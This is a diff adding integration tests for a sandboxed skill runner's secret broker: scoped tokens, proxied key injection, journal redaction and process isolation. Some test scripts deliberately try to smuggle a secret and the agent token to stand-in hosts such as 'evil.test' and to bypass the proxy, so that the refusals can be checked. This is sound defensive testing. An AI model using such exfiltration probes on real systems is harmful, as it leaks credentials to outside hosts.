@@ -1,0 +1,289 @@
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import type { Skillbox } from '../../src/app.ts';
+import { startBroker } from '../../src/broker/index.ts';
+import { BROKER_PORT } from '../../src/runs/broker.ts';
+import { briefOf, KEY, newToken, OTHER_KEY, pinsTo } from '../support/broker.ts';
+import { journalOf } from '../support/journal.ts';
+import { EXAMPLES, NO_SANDBOX, openSkillbox, runSkill, textOf } from '../support/skillbox.ts';
+import { tempDir, tidy } from '../support/temp.ts';
+import { UPSTREAM_ROOT, UpstreamServer } from '../support/upstream.ts';
+import { writeFiles } from '../temp.ts';
+
+tidy();
+const HOSTS = ['api.anthropic.com', 'api.openweathermap.org', 'hooks.test'];
+const ME = { id: 'tester', channel: 'local' };
+
+/** A seksbot skill made for one test. */
+function newSkill(capabilities: string[], main: string, more = ''): string {
+  const list = capabilities.map(name => `\n  - ${name}`).join('') || ' []';
+  return writeFiles(tempDir('skill', 0o755), {
+    'skill.yaml': `name: probe\ndescription: made for a test\ncapabilities:${list}\n${more}`,
+    'SKILL.md': '# Probe\n',
+    'main.sh*': `#!/usr/bin/env bash\n${main}`,
+  });
+}
+
+describe.skipIf(NO_SANDBOX)('runs with a broker', () => {
+  const upstream = new UpstreamServer(true);
+  const data = tempDir('broker-runs');
+  let skillbox: Skillbox;
+
+  beforeAll(async () => {
+    await upstream.start();
+    skillbox = await openSkillbox(data, 'bubblewrap', 0, {
+      pins: pinsTo(upstream.port, HOSTS),
+      roots: [UPSTREAM_ROOT],
+    });
+    await skillbox.secrets.set('anthropic', Buffer.from(KEY), null, ME);
+    await skillbox.secrets.set('custom/hook', Buffer.from(OTHER_KEY), ['hooks.test'], ME);
+    await skillbox.secrets.set('custom/loose', Buffer.from('loose-value-0123456789'), [], ME);
+  });
+  afterAll(async () => {
+    await skillbox?.close();
+    await upstream.close();
+  });
+  afterEach(() => {
+    upstream.requests.splice(0);
+    upstream.answer = (_request, outgoing) => void outgoing.end('fine\n');
+  });
+
+  test('SK-09 an example that asks a model, with the real key put in on the way', async () => {
+    upstream.answer = (_request, outgoing) => {
+      outgoing.setHeader('content-type', 'application/json');
+      outgoing.end(
+        JSON.stringify({
+          content: [{ type: 'text', text: 'A quiet day.' }],
+          usage: { input_tokens: 9, output_tokens: 3 },
+        }),
+      );
+    };
+    const record = await runSkill(skillbox, join(EXAMPLES, 'seksbot/daily-note'), { input: 'rain' });
+    expect([record.state, record.output]).toEqual(['success', { note: 'A quiet day.' }]);
+    expect(upstream.last.headers['x-api-key']).toBe(KEY);
+    const called = (await journalOf(skillbox, record.id)).find(({ type }) => type === 'broker.called');
+    expect(called?.data).toMatchObject({
+      capability: 'anthropic/messages.create',
+      method: 'POST',
+      host: 'api.anthropic.com',
+      path: '/v1/messages',
+      status: 200,
+      tokens: 12,
+      skill: { name: 'daily-note' },
+    });
+  });
+
+  test('SK-14 SK-16 the run finds its variables, and the journal every use, refusal and release', async () => {
+    const skill = newSkill(
+      ['anthropic/messages.create', 'custom/hook', 'custom/loose'],
+      `
+      echo "$SEKS_BROKER_URL $ANTHROPIC_BASE_URL $SEKS_SKILL_NAME"
+      [ "$SEKS_AGENT_TOKEN" = "$SEKS_BROKER_TOKEN" ] && [ "$ANTHROPIC_API_KEY" = "$SEKS_AGENT_TOKEN" ] && echo tokens
+      [ -z "$OPENAI_BASE_URL$NO_PROXY$no_proxy" ] && echo unset
+      curl -s "$SEKS_BROKER_URL/v1/health"
+      curl -s -H "authorization: Bearer $SEKS_AGENT_TOKEN" "$SEKS_BROKER_URL/v1/secrets/list"
+      curl -s -H "authorization: Bearer $SEKS_AGENT_TOKEN" -d '{"name":"custom/loose"}' "$SEKS_BROKER_URL/v1/secrets/get" | wc -c
+      curl -s -H "authorization: Bearer $SEKS_AGENT_TOKEN" -d '{"method":"POST","url":"https://hooks.test/x","headers":{"x-hook":"'$(seksh get custom/hook)'"},"body":"b"}' "$SEKS_BROKER_URL/v1/proxy/request"
+      curl -s -H "authorization: Bearer $SEKS_AGENT_TOKEN" -d '{}' "$SEKS_BROKER_URL/v1/proxy/anthropic/v1/messages"
+      curl -s -o /dev/null -w '%{http_code}\\n' -H "authorization: Bearer $SEKS_AGENT_TOKEN" -d '{"capabilities":["openai/*"]}' "$SEKS_BROKER_URL/v1/tokens/scoped"
+      seksh get custom/other 2>/dev/null; echo $?
+      seksh get custom/loose
+      `,
+    );
+    const record = await runSkill(skillbox, skill);
+    expect(textOf(skillbox, record).split('\n')).toEqual([
+      'http://127.0.0.1:3128 http://127.0.0.1:3128/api/anthropic probe',
+      'tokens',
+      'unset',
+      '{"status":"ok"}',
+      '{"secrets":["custom/hook","custom/loose"],"capabilities":["anthropic/messages.create"]}',
+      '82',
+      'fine',
+      'fine',
+      '403',
+      '3',
+      // SK-10: what was released is scrubbed from the log.
+      '<secret:custom/loose>',
+    ]);
+    expect(upstream.requests.map(({ headers }) => [headers['x-hook'], headers['x-api-key']])).toEqual([
+      [OTHER_KEY, undefined],
+      [undefined, KEY],
+    ]);
+    const lines = await journalOf(skillbox, record.id);
+    const told = lines
+      .filter(({ type }) => /^(?:broker|secret|token)\./.test(type))
+      .map(({ type, data }) => [type, data.capability ?? null]);
+    expect(told).toEqual([
+      ['token.minted', null],
+      ['secret.released', 'custom/loose'],
+      ['broker.called', 'custom/hook'],
+      ['broker.called', 'anthropic/messages.create'],
+      ['broker.refused', null],
+      ['secret.refused', 'custom/other'],
+      ['secret.released', 'custom/loose'],
+      ['token.revoked', null],
+    ]);
+    for (const value of [KEY, OTHER_KEY, 'loose-value']) expect(JSON.stringify([lines, record])).not.toContain(value);
+  });
+
+  test('SK-10 what a run was given is not in the journal, wherever it put it; the warm pool is left aside', async () => {
+    const warmed = await openSkillbox(tempDir('warmed'), 'bubblewrap', 2, {
+      pins: pinsTo(upstream.port, HOSTS),
+      roots: [UPSTREAM_ROOT],
+    });
+    try {
+      await warmed.secrets.set('custom/hook', Buffer.from(OTHER_KEY), ['hooks.test'], ME);
+      await warmed.secrets.set('custom/loose', Buffer.from('loose-value-0123456789'), [], ME);
+      const skill = newSkill(
+        ['custom/hook', 'custom/loose'],
+        'v=$(seksh get custom/loose); seksh http GET "https://hooks.test/$v"; seksh http GET "https://$v.test/$SEKS_AGENT_TOKEN" 2>/dev/null',
+      );
+      const record = await runSkill(warmed, skill);
+      expect(upstream.last.url).toBe('/loose-value-0123456789');
+      const lines = (await journalOf(warmed, record.id)).filter(({ type }) => type.startsWith('broker.'));
+      expect(lines.map(({ type, data }) => [type, data.path ?? data.host])).toEqual([
+        ['broker.called', '/<secret:custom/loose>'],
+        ['broker.refused', '<secret:custom/loose>.test'],
+      ]);
+    } finally {
+      await warmed.close();
+    }
+  });
+
+  test('SK-06 without the secret there is no token, and without a token no run', async () => {
+    const skill = newSkill(['anthropic/messages.create', 'custom/nowhere'], 'echo started');
+    await expect(runSkill(skillbox, skill)).rejects.toMatchObject({ code: 'SECRET_MISSING' });
+    const [record] = await skillbox.listRuns({ states: null, limit: 1 });
+    expect([record?.state, record?.logBytes, record?.startedAt]).toEqual(['failed', 0, null]);
+  });
+
+  test('SK-11 container_network none: no broker, no token, no address', async () => {
+    const skill = newSkill(
+      ['custom/loose'],
+      'env | grep -c -i -E "seks_(broker|agent)|proxy"; seksh list 2>/dev/null; echo $?',
+      'container_network: none\n',
+    );
+    const record = await runSkill(skillbox, skill);
+    expect(textOf(skillbox, record).trim().split('\n')).toEqual(['0', '2']);
+  });
+
+  test('SK-10 the exit codes of seksh', async () => {
+    upstream.answer = (request, outgoing) => void outgoing.writeHead(request.url === '/lost' ? 404 : 200).end('body\n');
+    const skill = newSkill(
+      ['custom/hook'],
+      `
+      code() { "$@" >/dev/null 2>&1; echo -n "$? "; }
+      code seksh list; code seksh get; code seksh get custom/bad/name; code seksh http GET ftp://x/; code seksh nothing
+      code seksh get custom/other; code seksh get anthropic/messages.create; code seksh http GET https://evil.test/
+      code seksh http GET https://hooks.test/lost
+      code env -u SEKS_BROKER_URL seksh list; code env -u SEKS_AGENT_TOKEN seksh list
+      code env SEKS_BROKER_URL=http://127.0.0.1:9 seksh list; code env SEKS_BROKER_URL=http://evil.test:80 seksh list
+      code env SEKS_AGENT_TOKEN=wrong seksh list
+      echo
+      seksh http POST https://hooks.test/ok -H 'x-one: 1' -d 'a b' && printf %s 'from stdin' | seksh http PUT https://hooks.test/in -d @-
+      `,
+    );
+    const record = await runSkill(skillbox, skill);
+    expect(textOf(skillbox, record)).toBe('0 1 1 1 1 3 3 3 4 2 2 5 2 3 \nbody\nbody\n');
+    expect(upstream.requests.slice(1).map(({ method, body, headers }) => [method, body, headers['x-one']])).toEqual([
+      ['POST', 'a b', '1'],
+      ['PUT', 'from stdin', undefined],
+    ]);
+  });
+
+  test('broker killed in the middle: requests fail, the run goes on, nothing is let out', async () => {
+    upstream.answer = (request, outgoing) => {
+      if (request.url === '/second') for (const pid of brokersOf(process.pid)) process.kill(pid, 'SIGKILL');
+      outgoing.end('fine\n');
+    };
+    const skill = newSkill(
+      ['custom/hook'],
+      `
+      seksh http GET https://hooks.test/first; echo $?
+      seksh http GET https://hooks.test/second 2>/dev/null; echo $?
+      seksh http GET https://hooks.test/third 2>/dev/null; echo $?
+      curl -s -o /dev/null --noproxy '*' https://hooks.test/fourth; echo $?
+      echo still here
+      `,
+    );
+    const record = await runSkill(skillbox, skill);
+    expect(textOf(skillbox, record).trim().split('\n')).toEqual(['fine', '0', '5', '5', '6', 'still here']);
+    expect([record.state, record.warnings]).toEqual(['success', [expect.stringContaining('the broker died')]]);
+    expect(upstream.requests.map(({ url }) => url)).toEqual(['/first', '/second']);
+  });
+
+  test('two runs at once, each with a broker of its own', async () => {
+    const skill = (name: string) =>
+      newSkill(
+        ['custom/hook', ...(name === 'a' ? ['custom/loose'] : [])],
+        `for i in 1 2 3; do seksh http GET https://hooks.test/${name} -H "x-hook: $(seksh get custom/hook)" >/dev/null; done; seksh list`,
+      );
+    const [first, second] = await Promise.all([runSkill(skillbox, skill('a')), runSkill(skillbox, skill('b'))]);
+    expect(textOf(skillbox, first)).toBe('custom/hook\ncustom/loose\n');
+    expect(textOf(skillbox, second)).toBe('custom/hook\n');
+    expect(upstream.requests).toHaveLength(6);
+    for (const { headers } of upstream.requests) expect(headers['x-hook']).toBe(OTHER_KEY);
+    expect(brokersOf(process.pid)).toEqual([]);
+  });
+});
+
+describe('the process', () => {
+  test('ends with the one that started it, and leaves nothing when closed', async () => {
+    const directory = join(tempDir('broker'), 'b');
+    const brief = briefOf(newToken());
+    const parent = spawn(process.execPath, [
+      '--no-warnings',
+      '--input-type=module',
+      '-e',
+      `const { startBroker } = await import(${JSON.stringify(join(import.meta.dirname, '../../src/broker/index.ts'))});
+       const broker = await startBroker(${JSON.stringify(directory)}, ${JSON.stringify(brief)}, 3128, { pins: [], roots: [], certificates: null }, () => {});
+       console.log(broker.pid);
+       setInterval(() => {}, 1000);`,
+    ]);
+    const [line] = (await once(parent.stdout, 'data')) as [Buffer];
+    const pid = Number(line.toString());
+    expect(existsSync(`/proc/${pid}`)).toBe(true);
+    parent.kill('SIGKILL');
+    await expect.poll(() => existsSync(`/proc/${pid}`), { timeout: 5000 }).toBe(false);
+  });
+
+  test('has no root, no environment, and no secret on its command line', async () => {
+    const around = { pins: [], roots: [], certificates: null };
+    const broker = await startBroker(
+      join(tempDir('broker'), 'b'),
+      briefOf(newToken()),
+      BROKER_PORT,
+      around,
+      () => undefined,
+    );
+    const status = readFileSync(`/proc/${broker.pid}/status`, 'utf8');
+    expect(/^Uid:\s+(\d+)/m.exec(status)?.[1]).toBe(process.getuid?.() === 0 ? '65534' : String(process.getuid?.()));
+    if (process.getuid?.() === 0) {
+      expect(/^CapEff:\s+(\w+)/m.exec(status)?.[1]).toBe('0000000000000000');
+      expect(readFileSync(`/proc/${broker.pid}/environ`, 'utf8')).toBe('');
+    }
+    await broker.close();
+    expect([existsSync(broker.socket), existsSync(`/proc/${broker.pid}`)]).toEqual([false, false]);
+  });
+});
+
+/** Brokers that this process started. */
+function brokersOf(parent: number): number[] {
+  return readdirSync('/proc')
+    .filter(name => /^\d+$/.test(name))
+    .filter(pid => {
+      try {
+        const status = readFileSync(`/proc/${pid}/status`, 'utf8');
+        return (
+          status.includes(`\nPPid:\t${parent}\n`) &&
+          readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('broker/main.ts')
+        );
+      } catch {
+        return false; // ended meanwhile
+      }
+    })
+    .map(Number);
+}
